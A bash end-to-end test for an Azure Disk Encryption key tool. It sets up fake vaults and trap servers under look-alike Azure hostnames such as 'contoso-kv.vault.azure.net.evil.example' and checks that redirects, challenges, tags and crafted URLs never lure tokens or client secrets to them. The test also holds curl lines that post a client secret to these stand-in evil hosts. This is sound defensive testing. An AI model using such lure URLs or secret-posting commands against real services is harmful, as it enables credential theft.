#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# Every way in which a token or a client secret could be lured to a stranger, for every way to sign
# in, under the names of the public cloud. A proxy leads each stranger's name to a trap that
# answers like a vault and a sign-in service and keeps what it hears: nothing. At the end the test
# calls the traps itself, by the same names and the same proxy, and they hear that.
. "${abs_top_srcdir:?run by make check}/tests/e2e/vault.sh" || exit 99
need mkntfs node openssl jq curl timeout "$MKADE"

disk=$work/os.vhd
ade_disk "$disk"
mkdir "$work/out"
secret='very~secret.value1'
# look-alikes of a vault, of the resource itself, of the sign-in service, of a managed HSM
strangers=(
	contoso-kv.vault.azure.net.evil.example
	contoso-kvvault.azure.net
	a.contoso-kv.vault.azure.net
	vault.azure.net
	contoso-kv.vault.azure.com
	login.microsoftonline.com.evil.example
	contoso.managedhsm.azure.net.evil.example
)
evil=${strangers[0]}
# kek_at URL: a version whose tag names its KEK there
kek_at()
{
	ade "$bek_guid.BEK" '"kek": "kek"' \
		"\"tags\": {\"DiskEncryptionKeyEncryptionKeyURL\": \"$1/keys/kek/1\"}"
}
secrets()
{
	secret by-tag "$(ade "$bek_guid.BEK" '"kek": "kek"')"
	secret kek-alike "$(kek_at "https://$evil")"
	secret kek-glued "$(kek_at "https://contoso-kvvault.azure.net")"
	secret kek-below "$(kek_at "https://a.contoso-kv.vault.azure.net")"
	secret kek-user "$(kek_at "https://contoso-kv.vault.azure.net@$evil")"
	secret kek-http "$(kek_at "http://contoso-kv.vault.azure.net")"
}
cat >"$work/config.json" <<END
{ "tenants": [{"id": "$tenant"}],
  "clients": [{"id": "$client", "secret": "$secret",
    "certificates": [{"make": "app"}], "federated": [{"make": "pod"}]}],
  "identities": [{"name": "vm", "kind": "system"}],
  "managed": {"imds": {}, "appService": {}},
  "device": {"interval": 1, "answer": "approve"},
  "authority": {"cloud": "public"},
  "traps": [{"name": "evil", "hosts": $(jq -nc '$ARGS.positional' --args "${strangers[@]}")}],
  "vaults": [
    {"name": "contoso-kv", "cloud": "public", "publicUrl": "azure", "pageSize": 2, $kek,
     "secrets": [$(with_commas secrets)]}] }
END
ok "the loopback cloud is up" start_vault "$work/config.json" || done_testing
sign_out
unset AZURE_AUTHORITY_HOST
get_token >"$work/token"

vault=contoso-kv.vault.azure.net
login=login.microsoftonline.com
trap_port=${VAULT_TRAP_evil##*:}
trap_http=127.0.0.1:${VAULT_TRAP_HTTP_evil##*:}
ok "the proxy is up" start_proxy "$work/proxy.log" "$login=$VAULT_AUTHORITY_PORT" \
	"$vault=$(ready '.vaults["contoso-kv"].port')" "${strangers[@]/%/=$trap_port}" ||
	done_testing
# a request in plain http reaches a trap, whatever the name
export https_proxy=http://$proxy http_proxy=http://$trap_http no_proxy=127.0.0.1

ways_to_sign_in
cases=0
key()
{
	local variables from=(--vault contoso-kv)
	case " $* " in
	*" --vault "* | *" https://"* | *" http://"* | *" --azure-json "*) from=() ;;
	esac
	read -ra variables <<<"${with[$way]}"
	timeout 60 env "${variables[@]}" "${adefuse_command[@]}" key -vv "${from[@]}" \
		--ca-file "$VAULT_CA_FILE" --credential "${as[$way]}" --timeout 5 \
		--force --out "$work/out" "$@" "$disk" </dev/null
}
# lured CODE NAME [OPTION...]: that exit code, and the traps heard nothing
lured()
{
	fails "$1" "$way: $2" key "${@:3}"
	keep_output
	control /traps >"$work/traps"
	json_is "  the trap heard nothing" "$work/traps" \
		.total.connections 0 .total.bytes 0 .total.requests 0
	cases=$((cases + 1))
}
# lured_by MATCH ACTION CODE NAME [OPTION...]: while the vault answers so
lured_by()
{
	change /fault "$(fault "$1" "$2")"
	lured "${@:3}"
	forget fault
}
# redirect STATUS URL, next_page URL: actions
redirect()
{
	echo "\"type\": \"redirect\", \"status\": $1, \"location\": \"$2\""
}
next_page()
{
	echo "\"type\": \"nextlink\", \"to\": \"$1\""
}
for way in secret certificate workload imds appservice device token; do
	# ---- the challenge
	for resource in https://management.azure.com "https://$evil" \
		https://managedhsm.azure.net; do
		challenge "{\"resource\": \"$resource\"}"
		lured 5 "a challenge for $resource"
	done
	challenge "{\"authorization\": \"https://$login.evil.example/{tenant}\"}"
	lured 0 "a challenge whose sign-in service is a stranger"
	challenge "{\"authorization\": \"http://$login/{tenant}\"}"
	lured 8 "a challenge whose sign-in service is in plain http"
	challenge '{"form": "resource"}'
	# ---- tags, links and redirects of a vault that has been given a token
	for name in kek-alike kek-glued kek-below; do
		lured 6 "the secret's tag names a stranger: $name" \
			--vault contoso-kv --secret $name
	done
	for to in "https://$evil/secrets?x" "http://$vault/secrets?x"; do
		lured_by "$listing" "$(next_page "$to")" 8 "the next page at $to"
	done
	for to in "https://$evil/secrets/x" "http://$trap_http/secrets/x"; do
		lured_by "$with_token" "$(redirect 307 "$to")" 8 "the vault redirects to $to"
		[ $way != token ] || continue
		for endpoint in token imds appservice; do
			change /fault \
				"$(fault "\"endpoint\": \"$endpoint\"" "$(redirect 308 "$to")")"
		done
		lured 5 "the token endpoints redirect to $to"
		forget fault
	done
done

# ---- what is refused before anybody signs in: a client secret and a token are ready
settings()
{
	cat <<-END
		{ "encryptionSettingsCollection": {"encryptionSettings": [
		    {"diskEncryptionKey": {"secretUrl": "https://$evil/secrets/x"}}]} }
	END
}
settings >"$work/disk.json"
for way in secret token; do
	for host in "${strangers[@]}"; do
		lured 2 "the vault https://$host" --vault "https://$host"
	done
	lured 2 "a secret at a stranger" --secret "https://$evil/secrets/x"
	lured 2 "a vault in plain http" --vault "http://$vault"
	lured 2 "a secret in plain http" --secret "http://$vault/secrets/by-tag"
	lured 2 "a page of the portal around a stranger" \
		--secret "https://portal.azure.com/#view/x/id/https%3A%2F%2F$evil%2Fsecrets%2Fx"
	lured 2 "a stranger's key" --secret "https://$vault/secrets/by-tag" \
		--kek "https://$evil/keys/kek"
	lured 2 "the disk's settings name a stranger" --azure-json "$work/disk.json"
	for name in kek-user kek-http; do
		lured 4 "the secret's tag names what is no https URL of a key: $name" \
			--vault contoso-kv --secret $name
	done
	for to in "https://$vault@$evil/secrets" "//$evil/secrets" \
		"https://$vault:444/secrets?x"; do
		lured_by "$listing" "$(next_page "$to")" 8 "the next page at $to"
	done
	lured_by '"endpoint": "vault", "auth": "absent"' \
		"$(redirect 302 "https://$evil/secrets/x")" \
		8 "before the challenge the vault redirects to a stranger"
done
traps_saw_nothing "$cases lures: the traps saw nothing"
nothing=$(json "$work/traps" \
	'.total | "\(.connections) connections, \(.bytes) bytes, \(.leaks) secrets"')

# ---- the traps are not deaf: called by each name, by way of the proxy, with the secret
for host in "${strangers[@]}"; do
	curl -sS -o "$work/tempted" --cacert "$VAULT_CA_FILE" -d "client_secret=$secret" \
		"https://$host/$tenant/oauth2/v2.0/token"
done
curl -sS -o "$work/tempted" "http://$vault/secrets"
control /traps >"$work/traps"
json_is "  (they would have: each of them hears the test itself)" "$work/traps" \
	.total.requests $((${#strangers[@]} + 1)) '.total.leaks > 0' true
heard=$(json "$work/traps" .total.requests)
echo "# traps: $cases lures, heard: $nothing; calls of the test itself heard: $heard"
no_secret_in_output "$secret" "$(cat "$work/token")" "$(cat "$VAULT_FEDERATED_pod")" \
	"$VAULT_APPSERVICE_HEADER" "$(sed -n 3p "$VAULT_CERT_app")"
done_testing
